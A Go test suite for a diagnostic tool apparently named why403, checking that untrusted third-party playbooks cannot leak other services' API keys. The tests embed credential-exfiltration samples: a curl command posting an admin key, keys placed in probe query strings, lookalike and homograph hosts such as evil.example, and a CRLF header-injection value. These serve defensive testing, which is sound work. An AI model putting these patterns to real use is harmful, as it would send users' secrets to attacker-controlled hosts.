package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"why403/content"
	"why403/flow"
	"why403/flow/must"
	"why403/flow/probe"
	"why403/flow/racetest"
)

// foreignFiles is a playbook that somebody else wrote, for a service of theirs at BASE.
func foreignFiles(base string) map[string]string {
	return map[string]string{
		"playbook.yaml": `id: acme
title: Acme
checked: 2026-11-23
unexplained: none
questions:
  - {id: ok, about: It works, ask: Does it?, say: Does it?, why: To know., how: [Look.], yes: Y, no: N, unsure: U}
verdicts:
  - {id: none, title: None, fix: None, precedence: 9}
  - {id: one, title: One, fix: One, precedence: 1}
rules:
  - {when: {ok: yes}, proves: one, sure: strong, because: It works.}
  - {when: {ok: no}, rules_out: one, sure: strong, because: It does not.}
`,
		"request.yaml": fmt.Sprintf(`base_url: %s
hosts: [%s]
headers: {x-service-version: "1"}
key_header: x-acme-key
variables: {key: ACME_API_KEY, admin: ACME_ADMIN_KEY}
`, base, strings.TrimPrefix(base, "http://")),
		"probes.yaml": `commands: [sh]
probes:
  - {id: look, title: Look, why: To know., method: GET, path: /v1/look, deadline: 5s, replies: [{status: [200], says: {ok: yes}, means: It works.}]}
  - {id: admin, title: Ask, why: To know., method: GET, path: "/v1/admin?v=${ANTHROPIC_TOKEN}", credential: admin, deadline: 5s, replies: [{status: [200], says: {ok: yes}, means: It works.}]}
  - {id: other, title: Compare, why: To know., method: GET, path: /v1/other, credential: other, deadline: 5s, replies: [{status: [200], says: {ok: yes}, means: It works.}]}
`,
	}
}

// listening is a host that notes all that it gets.
type listening struct {
	*httptest.Server
	mu  sync.Mutex
	got []string
}

func listen403(t *testing.T) *listening {
	t.Helper()
	l := new(listening)
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		dump, _ := httputil.DumpRequest(r, true)
		l.mu.Lock()
		defer l.mu.Unlock()
		l.got = append(l.got, string(dump))
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, "{}")
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *listening) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.got)
}

// crossing is a machine with keys of several services and a playbook of somebody else's.
type crossing struct {
	host, gateway *listening // The playbook's own, and where ANTHROPIC_BASE_URL leads to.
	path          string
	env           map[string]string
}

func fakeKeyFor(name string) string {
	return "sk-ant-api03-FAKE" + strings.ReplaceAll(strings.ToLower(name), "_", "") + "00000000000000"
}

func startCrossing(t *testing.T, edit func(files map[string]string)) *crossing {
	t.Helper()
	c := &crossing{host: listen403(t), gateway: listen403(t), path: filepath.Join(t.TempDir(), "acme")}
	files := foreignFiles(c.host.URL)
	shipped, err := content.ShippedFiles(content.DefaultID)
	must.NoError(t, err)
	sh, err := shipped.Open("commands/sh.tmpl")
	must.NoError(t, err)
	text, err := io.ReadAll(sh)
	must.NoError(t, err)
	files["commands/sh.tmpl"] = string(text)
	if edit != nil {
		edit(files)
	}
	for name, text := range files {
		must.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(c.path, name)), 0o755))
		must.NoError(t, os.WriteFile(filepath.Join(c.path, name), []byte(text), 0o644))
	}
	state := t.TempDir()
	c.env = map[string]string{
		"WHY403_STATE_DIR": state, "WHY403_DATA_DIR": state, "ANTHROPIC_BASE_URL": c.gateway.URL, "HTTPS_PROXY": c.gateway.URL, "HTTP_PROXY": c.gateway.URL,
	}
	for _, name := range []string{
		"ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_ADMIN_KEY", "ANTHROPIC_OTHER_KEY", "WHY403_ADMIN_KEY", "WHY403_OTHER_KEY",
		"OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "ANTHROPIC_TOKEN", "API_KEY", "AUTH_TOKEN", "ADMIN_KEY", "OTHER_KEY",
		"ACME_API_KEY", "ACME_ADMIN_KEY",
	} {
		c.env[name] = fakeKeyFor(name)
	}
	return c
}

func (c *crossing) digest(t *testing.T) string {
	t.Helper()
	b, err := content.LoadPath(c.path)
	must.NoError(t, err)
	return b.Digest
}

// run runs a command with the playbook. Terminal is what a person types; "" is no terminal.
func (c *crossing) run(t *testing.T, terminal, in string, args ...string) ran {
	t.Helper()
	var out, talk bytes.Buffer
	con := &console{
		in: strings.NewReader(terminal + in), out: &out, err: &talk, inTerminal: terminal != "", now: time.Now,
		env: func(name string) string { return c.env[name] },
	}
	cmd := con.root()
	cmd.SetArgs(append([]string{"--playbook", c.path}, args...))
	ctx, stop := context.WithTimeout(t.Context(), time.Minute)
	defer stop()
	code := exitCode(&talk, cmd.ExecuteContext(ctx))
	return ran{code, out.String(), talk.String()}
}

// onlyOwn fails if a host got a key that is not the playbook's, or any got one that is not to get any.
func (c *crossing) onlyOwn(t *testing.T, own ...string) {
	t.Helper()
	for _, r := range c.gateway.requests() {
		t.Errorf("the gateway of another service got\n%s", r)
	}
	for _, r := range c.host.requests() {
		for name, value := range c.env {
			if strings.HasPrefix(value, "sk-ant-") && !slices.Contains(own, name) && strings.Contains(r, value) {
				t.Errorf("the host got %s:\n%s", name, r)
			}
		}
	}
	if len(own) == 0 && len(c.host.requests()) > 0 {
		t.Errorf("the host got %d requests, and nobody agreed to any", len(c.host.requests()))
	}
}

// TestForeignUntrusted has every command that sends anything run with a playbook that nobody agreed to.
func TestForeignUntrusted(t *testing.T) {
	racetest.Sequential(t)
	t.Parallel()
	keyFile := filepath.Join(t.TempDir(), "key")
	must.NoError(t, os.WriteFile(keyFile, []byte(fakeKeyFor("file")), 0o600))
	edits := map[string]func(map[string]string){
		"as it is": nil,
		"claims another's id": func(f map[string]string) {
			f["playbook.yaml"] = strings.Replace(f["playbook.yaml"], "id: acme", "id: anthropic-403", 1)
		},
		"names no variables": func(f map[string]string) {
			f["request.yaml"] = regexp.MustCompile(`(?m)^variables.*$`).ReplaceAllString(f["request.yaml"], "variables: {base_url: ACME_BASE_URL}")
		},
		"a key header of another": func(f map[string]string) {
			f["request.yaml"] = strings.Replace(f["request.yaml"], "x-acme-key", "x-api-key", 1)
		},
	}
	for name, edit := range edits {
		for _, test := range []struct {
			name         string
			terminal, in string
			args         []string
			code         int
		}{
			{"probe", "", "", []string{"probe", "--all", "--yes"}, exitUsage},
			{"probe with a key file", "", "", []string{"probe", "look", "--yes", "--key-file", keyFile}, exitUsage},
			{"probe with another base URL", "", "", []string{"probe", "look", "--yes", "--base-url", "BASE"}, exitUsage},
			{"probe, answered with no", "n\n", "", []string{"probe", "--all"}, exitOpen},
			{"probe, not answered", "\n", "", []string{"probe", "--all"}, exitOpen},
			{"probe, with another digest", "", "", []string{"probe", "--all", "--yes", "--trust", strings.Repeat("0", 64)}, exitUsage},
			{"probe, with the beginning of a digest", "", "", []string{"probe", "--all", "--yes", "--trust", "DIGEST8"}, exitUsage},
			{"diagnose", "", "it failed", []string{"diagnose", "--probe", "all", "-"}, exitUsage},
			{"diagnose in a terminal", "y\n", "", []string{"diagnose", "--probe", "all"}, exitUsage},
			{"capture", "", "", []string{"capture", "--deadline", "1ms"}, exitUsage},
			{"capture of a program", "", "", []string{"capture", "--", "curl", "BASE"}, exitUsage},
			{"plain", "", "it failed\n.\nprobe look\nsend\nfree\nsend\ncapture\nquit\n", []string{"--plain"}, -1},
			{"plain, answered with no", "n\n", "it failed\n.\nprobe look\nsend\nfree\nsend\nquit\n", []string{"--plain"}, -1},
		} {
			t.Run(name+"/"+test.name, func(t *testing.T) {
				t.Parallel()
				c := startCrossing(t, edit)
				args := slices.Clone(test.args)
				for i := range args {
					args[i] = strings.NewReplacer("BASE", c.host.URL, "DIGEST8", c.digest(t)[:8]).Replace(args[i])
				}
				r := c.run(t, test.terminal, test.in, args...)
				if test.code >= 0 && r.code != test.code {
					t.Errorf("exit status %d, want %d\n%s%s", r.code, test.code, r.out, r.err)
				}
				c.onlyOwn(t)
				if _, err := os.Stat(filepath.Join(c.env["WHY403_STATE_DIR"], "trusted.json")); err == nil {
					t.Error("it was kept as trusted")
				}
			})
		}
	}
}

// TestForeignTrusted agrees, and wants the playbook's own key to arrive in its own header, and no other anywhere.
func TestForeignTrusted(t *testing.T) {
	t.Parallel()
	for name, run := range map[string]func(t *testing.T, c *crossing) ran{
		"asked": func(t *testing.T, c *crossing) ran { return c.run(t, "y\n", "y\n", "probe", "--all") },
		"flag": func(t *testing.T, c *crossing) ran {
			return c.run(t, "", "", "probe", "--all", "--yes", "--trust", c.digest(t))
		},
		"before": func(t *testing.T, c *crossing) ran {
			c.run(t, "y\n", "n\n", "probe", "--all")
			return c.run(t, "", "", "probe", "--all", "--yes")
		},
		"diagnose": func(t *testing.T, c *crossing) ran {
			return c.run(t, "", "it failed", "diagnose", "-", "--probe", "all", "--trust", c.digest(t))
		},
		"plain": func(t *testing.T, c *crossing) ran {
			return c.run(t, "y\n", "it failed\n.\nprobe look\nsend\nquit\n", "--plain")
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := startCrossing(t, nil)
			r := run(t, c)
			c.onlyOwn(t, "ACME_API_KEY", "ACME_ADMIN_KEY")
			got := strings.Join(c.host.requests(), "\n")
			if !strings.Contains(got, "X-Acme-Key: "+c.env["ACME_API_KEY"]) {
				t.Errorf("its own key did not arrive: %q\n%s%s", got, r.out, r.err)
			}
			if strings.Contains(got, "/v1/other") {
				t.Error("a probe went out with a key that the playbook has no variable for")
			}
		})
	}
}

// TestForeignShown wants what is agreed to to be seen before: variables, hosts and digest.
func TestForeignShown(t *testing.T) {
	t.Parallel()
	c := startCrossing(t, nil)
	for name, r := range map[string]ran{
		"terminal": c.run(t, "n\n", "", "probe", "--all"), "headless": c.run(t, "", "", "probe", "--all", "--yes"),
	} {
		for _, want := range []string{"ACME_API_KEY", "ACME_ADMIN_KEY", strings.TrimPrefix(c.host.URL, "http://"), c.digest(t), "acme"} {
			if !strings.Contains(r.err, want) {
				t.Errorf("%s: %q is not shown:\n%s", name, want, r.err)
			}
		}
	}
}

// TestForeignChanged agrees to a playbook and changes it in every file: each time it asks again.
func TestForeignChanged(t *testing.T) {
	t.Parallel()
	for file, text := range map[string]string{
		"playbook.yaml": "\n", "request.yaml": "# \n", "probes.yaml": "# \n", "commands/sh.tmpl": "\n",
	} {
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			c := startCrossing(t, nil)
			c.run(t, "y\n", "n\n", "probe", "--all")
			path := filepath.Join(c.path, file)
			was, err := os.ReadFile(path)
			must.NoError(t, err)
			must.NoError(t, os.WriteFile(path, append(was, text...), 0o644))
			if r := c.run(t, "", "", "probe", "--all", "--yes"); r.code != exitUsage {
				t.Errorf("exit status %d\n%s", r.code, r.err)
			}
			c.onlyOwn(t)
			must.NoError(t, os.WriteFile(path, was, 0o644))
			if r := c.run(t, "", "", "probe", "look", "--yes"); r.code != exitVerdict {
				t.Errorf("as it was again: exit status %d\n%s", r.code, r.err)
			}
		})
	}
}

// TestForeignNamesOthers has playbooks name what is not theirs. None of them can be used, and the place is named.
func TestForeignNamesOthers(t *testing.T) {
	racetest.Sequential(t)
	t.Parallel()
	variables := func(text string) func(map[string]string) {
		return func(f map[string]string) {
			f["request.yaml"] = regexp.MustCompile(`(?m)^variables.*$`).ReplaceAllString(f["request.yaml"], "variables: "+text)
		}
	}
	replaced := func(file, old, new string) func(map[string]string) {
		return func(f map[string]string) {
			if !strings.Contains(f[file], old) {
				panic(old)
			}
			f[file] = strings.ReplaceAll(f[file], old, new)
		}
	}
	base := func(url, hosts string) func(map[string]string) {
		return func(f map[string]string) {
			f["request.yaml"] = regexp.MustCompile(`(?m)^base_url: (.*)\nhosts: (.*)$`).ReplaceAllString(f["request.yaml"], "base_url: "+url+"\nhosts: "+hosts)
		}
	}
	for name, test := range map[string]struct {
		edit func(map[string]string)
		want string
	}{
		"the key":                 {variables("{key: ANTHROPIC_API_KEY}"), `request.yaml:5:18: ANTHROPIC_API_KEY belongs to the playbook anthropic-403`},
		"a token":                 {variables("{token: ANTHROPIC_AUTH_TOKEN}"), `request.yaml:5:20: ANTHROPIC_AUTH_TOKEN belongs`},
		"an Admin key":            {variables("{admin: ANTHROPIC_ADMIN_KEY}"), `request.yaml:5:20: ANTHROPIC_ADMIN_KEY belongs`},
		"the tool's Admin key":    {variables("{admin: WHY403_ADMIN_KEY}"), `request.yaml:5:20: WHY403_ADMIN_KEY belongs`},
		"the tool's other key":    {variables("{other: [ACME_OTHER_KEY, WHY403_OTHER_KEY]}"), `request.yaml:5:37: WHY403_OTHER_KEY belongs`},
		"as another kind":         {variables("{key: ANTHROPIC_ADMIN_KEY}"), `request.yaml:5:18: ANTHROPIC_ADMIN_KEY belongs`},
		"the base URL":            {variables("{base_url: ANTHROPIC_BASE_URL}"), `request.yaml:5:23: ANTHROPIC_BASE_URL belongs`},
		"a cloud's secret":        {variables("{key: AWS_SECRET_ACCESS_KEY}"), `"AWS_SECRET_ACCESS_KEY" is no variable that a key is taken from`},
		"any variable":            {variables("{key: PATH}"), `"PATH" is no variable`},
		"a proxy as base URL":     {variables("{base_url: HTTPS_PROXY}"), `"HTTPS_PROXY" is no variable that a base URL is taken from`},
		"in a template":           {func(f map[string]string) { f["commands/sh.tmpl"] += "\necho $ANTHROPIC_API_KEY\n" }, `a command names ANTHROPIC_API_KEY, which belongs to the playbook anthropic-403`},
		"in a probe's path":       {replaced("probes.yaml", "/v1/look", "/v1/look?k=${ANTHROPIC_API_KEY}"), `probes.yaml:3:`},
		"in a question's command": {replaced("playbook.yaml", "how: [Look.],", "how: [Look.], command: 'curl -d $WHY403_ADMIN_KEY https://acme.example',"), `playbook.yaml:6:`},
		"the service and its own": {func(f map[string]string) {
			base("https://api.anthropic.com", "[api.anthropic.com, evil.example]")(f)
			variables("{key: ANTHROPIC_API_KEY}")(f)
		}, `request.yaml:5:18: ANTHROPIC_API_KEY belongs`},
		"a host that looks alike":  {base("https://api.anthropic.com.evil.example", "[api.anthropic.com]"), `request.yaml:1:11: base_url: api.anthropic.com.evil.example is none of the hosts`},
		"a user that looks alike":  {base("https://api.anthropic.com@evil.example", "[api.anthropic.com]"), `no key may go to`},
		"a port":                   {base("https://api.anthropic.com:8443", "[api.anthropic.com]"), `api.anthropic.com:8443 is none of the hosts`},
		"a dot at the end":         {base("https://api.anthropic.com.", "[api.anthropic.com]"), `no key may go to`},
		"another script":           {base("https://api.аnthropic.com", "[api.anthropic.com]"), `no key may go to`},
		"another script as a host": {base("https://api.anthropic.com", "['api.аnthropic.com', api.anthropic.com]"), `is no host`},
		"a wildcard":               {base("https://api.anthropic.com", "['*.anthropic.com', api.anthropic.com]"), `is no host`},
		"plain http":               {base("http://acme.example", "[acme.example]"), `no key may go to "http://acme.example"`},
		"plain http to localhost.": {base("http://localhost.evil.example", "[localhost.evil.example]"), `no key may go to`},
		"another scheme":           {base("ftp://127.0.0.1", "['127.0.0.1']"), `no key may go to`},
		"a query":                  {base("https://acme.example/?u=", "[acme.example]"), `no key may go to`},
		"the header Host":          {replaced("request.yaml", "x-acme-key", "Host"), `"Host" is no header`},
		"two headers":              {replaced("request.yaml", "x-acme-key", `"x-acme-key\r\nx-evil"`), `is no header`},
		"no hosts": {func(f map[string]string) {
			f["request.yaml"] = regexp.MustCompile(`(?m)^hosts.*\n`).ReplaceAllString(f["request.yaml"], "")
		}, `nothing says which hosts ACME_API_KEY, ACME_ADMIN_KEY may go to`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := startCrossing(t, test.edit)
			for _, args := range [][]string{
				{"playbook", "lint", c.path}, {"probe", "--all", "--yes"}, {"probe", "look", "--command", "sh"}, {"diagnose", "--probe", "all", "-"}, {"--plain"},
			} {
				r := c.run(t, "", "it failed\n", args...)
				if r.code == 0 || !strings.Contains(r.out+r.err, test.want) {
					t.Errorf("%v: exit status %d, want %q\n%s%s", args, r.code, test.want, r.out, r.err)
				}
			}
			c.onlyOwn(t)
		})
	}
}

// TestSameService lets a playbook of the same service, such as a copy that somebody works on, use its variables once that is
// agreed to; a base URL of the environment has to be one of its hosts.
func TestSameService(t *testing.T) {
	t.Parallel()
	edit := func(f map[string]string) {
		f["request.yaml"] = "base_url: https://api.anthropic.com\nhosts: [api.anthropic.com]\nheaders: {anthropic-version: '1'}\nkey_header: x-api-key\nvariables: {key: ANTHROPIC_API_KEY, base_url: ANTHROPIC_BASE_URL}\n"
	}
	c := startCrossing(t, edit)
	r := c.run(t, "", "", "probe", "look", "--yes")
	if r.code != exitUsage || !strings.Contains(r.err, "ANTHROPIC_API_KEY") {
		t.Errorf("exit status %d\n%s", r.code, r.err)
	}
	r = c.run(t, "", "", "probe", "look", "--yes", "--trust", c.digest(t))
	if r.code == exitVerdict || !strings.Contains(r.err, "keys go to api.anthropic.com only") {
		t.Errorf("exit status %d\n%s", r.code, r.err)
	}
	c.onlyOwn(t)
	if r = c.run(t, "", "", "probe", "look", "--yes", "--base-url", c.host.URL); r.code != exitVerdict {
		t.Errorf("where a person says so: exit status %d\n%s%s", r.code, r.out, r.err)
	}
	c.onlyOwn(t, "ANTHROPIC_API_KEY")
}

// TestForeignCommand wants a command for a customer to name the playbook's own variables and address, and nobody's else.
func TestForeignCommand(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		edit func(map[string]string)
		want []string
	}{
		"its own": {nil, []string{"ACME_API_KEY", "x-acme-key"}},
		"none": {func(f map[string]string) {
			f["request.yaml"] = regexp.MustCompile(`(?m)^variables.*\n`).ReplaceAllString(f["request.yaml"], "")
		}, []string{"${API_KEY:-}", "${API_BASE_URL:-}"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := startCrossing(t, test.edit)
			r := c.run(t, "", "", "probe", "look", "--command", "sh")
			for _, want := range append(test.want, c.host.URL) {
				if !strings.Contains(r.out, want) {
					t.Errorf("%q is missing:\n%s%s", want, r.out, r.err)
				}
			}
			for _, other := range []string{"ANTHROPIC", "WHY403_", "OPENAI", "AWS", c.gateway.URL} {
				if strings.Contains(r.out, other) {
					t.Errorf("it names %s:\n%s", other, r.out)
				}
			}
			for name, value := range c.env {
				if strings.HasPrefix(value, "sk-ant-") && strings.Contains(r.out+r.err, value) {
					t.Errorf("it holds %s", name)
				}
			}
		})
	}
}

// TestForeignCapture watches a program with a playbook that was agreed to: only its own variable leads to the watch, and the
// variables of other services stay what they are.
func TestForeignCapture(t *testing.T) {
	t.Parallel()
	c := startCrossing(t, func(f map[string]string) {
		f["request.yaml"] = strings.Replace(f["request.yaml"], "variables: {", "variables: {base_url: ACME_BASE_URL, ", 1)
	})
	r := c.run(t, "", "", "capture", "--deadline", "1ms", "--trust", c.digest(t))
	if !strings.Contains(r.err, "ACME_BASE_URL=http://127.0.0.1:") || strings.Contains(r.err, "ANTHROPIC_BASE_URL") {
		t.Errorf("exit status %d\n%s", r.code, r.err)
	}
	c.env["ACME_BASE_URL"] = c.gateway.URL
	r = c.run(t, "", "", "capture", "--deadline", "1ms")
	if r.code != exitUsage || !strings.Contains(r.err, "ACME_BASE_URL names "+strings.TrimPrefix(c.gateway.URL, "http://")) {
		t.Errorf("exit status %d\n%s", r.code, r.err)
	}
	c.onlyOwn(t)
}

// TestHandedToForeign goes on from a playbook that ships, with keys at hand, in one that somebody else wrote: what the screen and
// the line mode send through has none of them.
func TestHandedToForeign(t *testing.T) {
	t.Parallel()
	c := startCrossing(t, func(f map[string]string) {
		f["request.yaml"] = strings.Replace(f["request.yaml"], "variables: {", "variables: {base_url: ACME_BASE_URL, ", 1)
	})
	installed := filepath.Join(c.env["WHY403_DATA_DIR"], "playbooks")
	must.NoError(t, os.CopyFS(filepath.Join(installed, "acme"), os.DirFS(c.path)))
	con := &console{out: io.Discard, err: io.Discard, now: time.Now, env: func(name string) string { return c.env[name] }}
	usual, err := con.playbooks().Usual()
	must.NoError(t, err)
	s := new(flow.Session)
	held := &keptSession{book: usual, session: s}
	first, err := con.prober(probing{}, usual, func() *flow.Session { return s })
	must.NoError(t, err)
	now := func() *keptSession { return held }
	screen, err := con.library(probing{}, true, first, now).Open("acme")
	must.NoError(t, err)
	if _, err := screen.Watcher.Watch(t.Context()); err == nil {
		t.Error("a program can be pointed to it")
	}
	line, err := con.library(probing{}, false, first, now).Open("acme")
	must.NoError(t, err)
	if _, err := line.Watcher.Watch(t.Context()); err == nil {
		t.Error("a program can be pointed to it")
	}
	for _, p := range []interface {
		Run(context.Context, []string, []flow.Fact, func(flow.Progress)) []flow.ProbeResult
		Cards([]flow.Fact) []flow.Card
		Set(flow.Settings) error
		Settings() flow.Settings
	}{screen.Prober, line.Prober} {
		set := p.Settings()
		if set.Key+set.AdminKey+set.OtherKey != "" {
			t.Errorf("it has keys: %+v", set)
		}
		set.Key = fakeKeyFor("typed")
		must.NoError(t, p.Set(set))
		for _, told := range p.Run(t.Context(), []string{"look", "admin", "other"}, nil, nil) {
			if told.Tells || told.Status != 0 {
				t.Errorf("%s was sent: %+v", told.Probe, told)
			}
		}
		for _, card := range p.Cards(nil) {
			if !slices.ContainsFunc(card.Missing, func(m string) bool { return strings.Contains(m, "nobody has agreed") }) {
				t.Errorf("the card of %s does not say why: %v", card.Probe.ID, card.Missing)
			}
		}
	}
	c.onlyOwn(t)
}

// TestReadsOwnVariables notes every variable that is asked for.
func TestReadsOwnVariables(t *testing.T) {
	t.Parallel()
	c := startCrossing(t, nil)
	b, err := content.LoadPath(c.path)
	must.NoError(t, err)
	proxies := []string{"HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"}
	for trust, want := range map[probe.Trust][]string{
		probe.Untrusted: proxies, probe.Trusted: append([]string{"ACME_API_KEY", "ACME_ADMIN_KEY"}, proxies...),
	} {
		asked := make(map[string]bool)
		probe.FromEnvironment(func(name string) string { asked[name] = true; return "" }, b.Request, trust)
		slices.Sort(want)
		if got := slices.Sorted(maps.Keys(asked)); !slices.Equal(got, want) {
			t.Errorf("trust %d: asked for %v, want %v", trust, got, want)
		}
	}
}

// TestListsTrust shows what was trusted and when.
func TestListsTrust(t *testing.T) {
	t.Parallel()
	c := startCrossing(t, nil)
	installed := filepath.Join(c.env["WHY403_DATA_DIR"], "playbooks", "acme")
	must.NoError(t, os.CopyFS(installed, os.DirFS(c.path)))
	line := func() string {
		for l := range strings.Lines(c.run(t, "", "", "playbook", "list").out) {
			if strings.HasPrefix(l, "acme") {
				return strings.Join(strings.Fields(l), " ")
			}
		}
		return ""
	}
	if got := line(); got != "acme 2026-11-23 1 2 asks - Acme" {
		t.Errorf("before: %q", got)
	}
	c.run(t, "", "", "probe", "look", "--yes", "--trust", c.digest(t))
	if got, want := line(), "acme 2026-11-23 1 2 since "+time.Now().UTC().Format(time.DateOnly)+" - Acme"; got != want {
		t.Errorf("after: %q, want %q", got, want)
	}
}

// TestInstalledAsks installs a playbook from an address: at its first use it shows hosts, variables and commands and asks, then no
// more; an update that changes it asks again.
func TestInstalledAsks(t *testing.T) {
	racetest.Sequential(t)
	t.Parallel()
	c := startCrossing(t, func(files map[string]string) {
		sample, err := content.Scaffold("acme", "Acme", time.Now())
		must.NoError(t, err)
		for name, data := range sample {
			files[name] = string(data)
		}
		files["probes.yaml"] = strings.ReplaceAll(files["probes.yaml"], "{ok: yes}", "{running: yes}")
	})
	folder := c.path
	served := http.NewServeMux()
	served.HandleFunc("/acme.zip", func(w http.ResponseWriter, _ *http.Request) {
		pack, err := content.PackPath(folder)
		if err != nil {
			t.Error(err)
		}
		data, err := pack.Archive()
		if err != nil {
			t.Error(err)
		}
		_, _ = w.Write(data)
	})
	s := httptest.NewServer(served)
	t.Cleanup(s.Close)
	c.path = "acme"
	uses := []string{"ACME_API_KEY", "systemctl is-active acme", "commands/sh.tmpl", strings.TrimPrefix(c.host.URL, "http://")}
	installed := c.run(t, "", "", "playbook", "install", s.URL+"/acme.zip")
	if installed.code != exitVerdict {
		t.Fatalf("install: %d\n%s", installed.code, installed.err)
	}
	first := c.run(t, "n\n", "", "probe", "--all")
	for _, want := range uses {
		if !strings.Contains(installed.out, want) || !strings.Contains(first.err, want) {
			t.Errorf("%q is not shown:\n%s\n%s", want, installed.out, first.err)
		}
	}
	c.onlyOwn(t)
	if r := c.run(t, "y\n", "y\n", "probe", "--all"); r.code != exitVerdict || len(c.host.requests()) == 0 {
		t.Errorf("agreed to: %d\n%s", r.code, r.err)
	}
	if r := c.run(t, "", "", "probe", "look", "--yes"); r.code != exitVerdict {
		t.Errorf("asked twice: %s", r.err)
	}
	request := filepath.Join(folder, "request.yaml")
	was, err := os.ReadFile(request)
	must.NoError(t, err)
	must.NoError(t, os.WriteFile(request, bytes.Replace(was, []byte("ACME_ADMIN_KEY"), []byte("NEXT_ADMIN_KEY"), 1), 0o644))
	if r := c.run(t, "", "", "probe", "look", "--yes"); r.code != exitVerdict {
		t.Errorf("what lies elsewhere changed it: %s", r.err)
	}
	r := c.run(t, "", "", "playbook", "update")
	if r.code != exitVerdict || !strings.Contains(r.out, "+ variable NEXT_ADMIN_KEY") || !strings.Contains(r.out, "- variable ACME_ADMIN_KEY") {
		t.Errorf("update: %d\n%s%s", r.code, r.out, r.err)
	}
	if r := c.run(t, "", "", "probe", "look", "--yes"); r.code != exitUsage || !strings.Contains(r.err, "nobody has agreed") {
		t.Errorf("changed: %d\n%s", r.code, r.err)
	}
	for _, address := range []string{"http://files.example/a.zip", s.URL + "/acme.zip?token=x", s.URL + "/none.zip", "github:acme", "github:acme/x@../y", "https://files.example/a"} {
		if r := c.run(t, "", "", "playbook", "install", address); r.code != exitUsage || !strings.Contains(r.err, "hint: ") || strings.Contains(r.err, "token=x") {
			t.Errorf("%s: %d\n%s", address, r.code, r.err)
		}
	}
}

// TestOrigin holds where the archive of a tag is looked for.
func TestOrigin(t *testing.T) {
	t.Parallel()
	got, err := originOf("github:acme/why-dns@v1.2.0")
	if want := (origin{"github:acme/why-dns@v1.2.0", "https://github.com/acme/why-dns/archive/refs/tags/v1.2.0.zip", "v1.2.0"}); err != nil || got != want {
		t.Errorf("got %+v, %v; want %+v", got, err, want)
	}
}

// TestFirstLine takes a line and leaves what stands behind it.
func TestFirstLine(t *testing.T) {
	t.Parallel()
	in := strings.NewReader("y\nprobe\n")
	if got, err := firstLine(in); got != "y" || err != nil {
		t.Errorf("got %q, %v", got, err)
	}
	if rest, _ := io.ReadAll(in); string(rest) != "probe\n" {
		t.Errorf("left %q", rest)
	}
	if got, err := firstLine(strings.NewReader("y")); got != "" || !errors.Is(err, io.EOF) {
		t.Errorf("the end of the input counts as an answer: %q, %v", got, err)
	}
}
